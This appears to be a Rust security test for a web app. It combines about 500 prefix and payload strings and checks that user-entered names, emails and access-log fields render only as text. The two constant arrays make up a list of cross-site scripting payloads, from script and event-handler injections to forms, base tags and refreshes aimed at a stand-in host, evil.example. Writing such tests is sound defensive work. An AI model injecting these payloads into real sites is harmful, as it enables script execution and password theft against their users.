//! Five hundred ways of writing markup into a name, an address or an answer (BO-07): none becomes any.

use kernel::{
    page::{Block, FieldKind, Page, Row, Text, Value},
    refusal::Refusal,
};
use scraper::Html as Document;

use super::{
    super::{AccessLine, access},
    Fixture, Shell, page,
};

/// What would run, or load something, or open an element.
const CORES: [&str; 24] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
];

/// What would first have to be left.
const BEFORE: [&str; 22] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "</p>",
    "</dd></dl>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "\" x=\"",
    "' x='",
    "` x=`",
    "\\\"",
    "\u{0}",
    "\u{202e}",
    "\u{feff}",
    "&quot;&gt;",
    "&#34;&#62;",
];

/// Elements with the names of their attributes, in the order of the page.
fn structure(html: &str) -> Vec<String> {
    let document = Document::parse_document(html);
    let elements = document.tree.nodes().filter_map(|node| node.value().as_element());
    elements
        .map(|element| {
            let names: Vec<&str> = element.attrs().map(|(name, _)| name).collect();
            format!("{} {}", element.name(), names.join(" "))
        })
        .collect()
}

/// Pages that show what somebody typed, in every place where that is done.
fn drawn(said: &str, shell: &Shell<'_>) -> [String; 2] {
    let row = |value| Row { label: Text::key("user-name"), value };
    let blocks = vec![
        Block::Paragraph(Text::key("news").with("what", said)),
        Block::Summary(vec![row(Value::Plain(said.to_owned()))]),
        Block::field("user-name", FieldKind::UserName { live: false }),
        Block::field("email", FieldKind::Email),
    ];
    let typed = ["user-name", "email"].map(|name| (name.to_owned(), said.to_owned())).into();
    let looked = AccessLine {
        at: jiff::Timestamp::UNIX_EPOCH,
        name: said.to_owned(),
        role: Text::key("news").with("what", said),
        office: said.to_owned(),
        what: Text::key("news").with("what", said),
        kept_back: Some((jiff::Timestamp::UNIX_EPOCH, Text::key("news").with("what", said))),
        proof: "/account/access/1".to_owned(),
    };
    let asked = Page::asking("test-page", blocks);
    [page(&asked, shell, Some(&Refusal::NoMatch), &typed), access(&[looked], &[], shell)]
}

#[test]
fn bo_07_whatever_somebody_is_called_or_writes_stays_text() {
    let fixture = Fixture::new();
    let shell = fixture.shell();
    let harmless = drawn("Anna", &shell).map(|html| structure(&html));
    let ways = BEFORE.iter().flat_map(|before| CORES.map(|core| format!("{before}{core}")));
    let mut tried = 0;
    for said in ways {
        let found = drawn(&said, &shell).map(|html| structure(&html));
        assert_eq!(found, harmless, "{said}");
        tried += 1;
    }
    assert!(tried > 500, "{tried}");
}
